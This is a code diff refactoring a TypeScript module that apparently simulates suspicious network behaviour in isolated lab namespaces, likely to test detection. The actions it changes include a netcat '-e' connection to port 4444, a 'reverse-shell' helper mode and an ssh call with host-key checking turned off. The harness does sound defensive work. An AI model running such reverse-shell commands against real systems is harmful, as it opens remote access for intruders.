@@ -14,7 +14,7 @@
 import type { Action } from "../action.ts";
 import { incubating, sandbox } from "../action.ts";
 import { requireCall, runCommand, which } from "../command.ts";
-import { createNetLab } from "../netlab.ts";
+import { createNetLab, inNamespace } from "../netlab.ts";
 import { evidenceOf, expectExit, helperAs } from "./util.ts";
 
 /** Documentation range (TEST-NET-3): never routed on the internet. */
@@ -36,16 +36,10 @@ export const NETWORK_ACTIONS: Action[] = [
     async run(ctx) {
       const lab = await createNetLab(ctx.ws, await ctx.helper(), { ...LAB, ports: [80] });
       const ls = await helperAs(ctx, "ls");
-      const r = await runCommand("ip", [
-        "netns",
-        "exec",
-        lab.clientNs,
-        ls,
-        "connect",
-        lab.serverIp,
-        "80",
-        "tcp",
-      ]);
+      const r = await runCommand(
+        "ip",
+        inNamespace(lab.clientNs, ls, "connect", lab.serverIp, "80", "tcp"),
+      );
       requireCall(r, "connect", true);
       const local = requireCall(r, "getsockname", true).args;
       return {
@@ -76,26 +70,28 @@ export const NETWORK_ACTIONS: Action[] = [
       const ssh = await which("ssh");
       if (!ssh) throw new Error("ssh client not installed");
       const lab = await createNetLab(ctx.ws, await ctx.helper(), { ...LAB, ports: [443] });
-      const r = await runCommand("ip", [
-        "netns",
-        "exec",
-        lab.clientNs,
-        ssh,
-        "-F",
-        "/dev/null",
-        "-o",
-        "BatchMode=yes",
-        "-o",
-        "StrictHostKeyChecking=no",
-        "-o",
-        "UserKnownHostsFile=/dev/null",
-        "-o",
-        "ConnectTimeout=5",
-        "-p",
-        "443",
-        `simulated@${lab.serverIp}`,
-        "true",
-      ], { timeoutMs: 15_000 });
+      const r = await runCommand(
+        "ip",
+        inNamespace(
+          lab.clientNs,
+          ssh,
+          "-F",
+          "/dev/null",
+          "-o",
+          "BatchMode=yes",
+          "-o",
+          "StrictHostKeyChecking=no",
+          "-o",
+          "UserKnownHostsFile=/dev/null",
+          "-o",
+          "ConnectTimeout=5",
+          "-p",
+          "443",
+          `simulated@${lab.serverIp}`,
+          "true",
+        ),
+        { timeoutMs: 15_000 },
+      );
       // The lab listener closes at once, so ssh fails after connecting: that is the point.
       if (!/closed|reset|kex_exchange/i.test(r.stderr)) {
         throw new Error(`ssh did not reach the lab server (exit ${r.code}): ${r.stderr.trim()}`);
@@ -124,18 +120,11 @@ export const NETWORK_ACTIONS: Action[] = [
       const lab = await createNetLab(ctx.ws, await ctx.helper(), { ...LAB, ports: [4444] });
       const nc = ctx.ws.path("nc");
       await Deno.symlink(busybox, nc);
-      const r = await runCommand("ip", [
-        "netns",
-        "exec",
-        lab.clientNs,
-        nc,
-        "-w",
-        "3",
-        lab.serverIp,
-        "4444",
-        "-e",
-        "/bin/true",
-      ], { timeoutMs: 15_000 });
+      const r = await runCommand(
+        "ip",
+        inNamespace(lab.clientNs, nc, "-w", "3", lab.serverIp, "4444", "-e", "/bin/true"),
+        { timeoutMs: 15_000 },
+      );
       expectExit(r, "nc -e");
       return {
         facts: {
@@ -157,15 +146,11 @@ export const NETWORK_ACTIONS: Action[] = [
     expect: ["proc.name", "proc.pid", "proc.stdin.type"],
     async run(ctx) {
       const lab = await createNetLab(ctx.ws, await ctx.helper(), { ...LAB, ports: [4444] });
-      const r = await runCommand("ip", [
-        "netns",
-        "exec",
-        lab.clientNs,
-        await ctx.helper(),
-        "reverse-shell",
-        lab.serverIp,
-        "4444",
-      ], { timeoutMs: 15_000 });
+      const r = await runCommand(
+        "ip",
+        inNamespace(lab.clientNs, await ctx.helper(), "reverse-shell", lab.serverIp, "4444"),
+        { timeoutMs: 15_000 },
+      );
       requireCall(r, "dup2", true);
       // The helper becomes the shell (same pid); the shell exits at once.
       expectExit(r, "reverse shell");
